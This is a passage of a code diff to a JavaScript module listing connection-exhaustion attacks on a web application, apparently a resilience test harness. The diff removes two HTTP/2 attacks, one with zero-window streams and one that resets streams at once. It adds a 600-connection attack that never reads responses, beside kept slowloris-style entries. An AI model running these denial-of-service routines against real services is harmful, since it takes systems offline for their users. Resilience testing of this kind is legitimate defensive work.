@@ -1,6 +1,5 @@
 // Connections that cost their owner nothing: idle, slow, and those that never read.
-import { connect as connectHttp2 } from 'node:http2';
-import { count, pause, raw, repeat } from './wire.mjs';
+import { pause, raw } from './wire.mjs';
 
 const head = (target, method, path, more = '') => `${method} ${path} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\nSec-Fetch-Site: same-origin\r\n${more}\r\n`;
 
@@ -35,29 +34,6 @@ export const attacks = {
     hold(target, seconds, 300, () => head(target, 'GET', '/requests', `Cookie: ${target.cookie}\r\n`).repeat(50), { reads: false }),
   '300 streams of news that nobody reads': (target, seconds) =>
     hold(target, seconds, 300, () => head(target, 'GET', `/events?code=${target.code}`, `Cookie: ${target.cookie}\r\n`), { reads: false }),
-  'HTTP/2: 20 connections of 100 streams, no window': async (target, seconds) => {
-    const sessions = Array.from({ length: 20 }, () => connectHttp2(target.address, { settings: { initialWindowSize: 0 } }));
-    for (const session of sessions) {
-      session.on('error', error => count(error.code ?? 'error'));
-      for (let stream = 0; stream < 100; stream++) {
-        const asked = session.request({ ':path': stream % 2 ? '/requests' : '/requests/new', cookie: target.cookie });
-        asked.on('response', answer => count(String(answer[':status'])));
-        asked.on('error', error => count(error.code ?? 'error'));
-      }
-    }
-    await pause(seconds * 1000);
-    for (const session of sessions) session.destroy();
-  },
-  'HTTP/2: streams that are reset at once': (target, seconds) =>
-    repeat(seconds, 4, async () => {
-      const session = connectHttp2(target.address);
-      session.on('error', error => count(error.code ?? 'error'));
-      for (let stream = 0; stream < 500; stream++) {
-        const asked = session.request({ ':path': '/requests/new', cookie: target.cookie });
-        asked.on('error', () => {});
-        asked.close(8);
-      }
-      await pause(100);
-      session.destroy();
-    }),
+  '600 large pages of one person over 600 connections, never read': (target, seconds) =>
+    hold(target, seconds, 600, () => head(target, 'GET', '/requests/new', `Cookie: ${target.cookie}\r\n`), { reads: false }),
 };
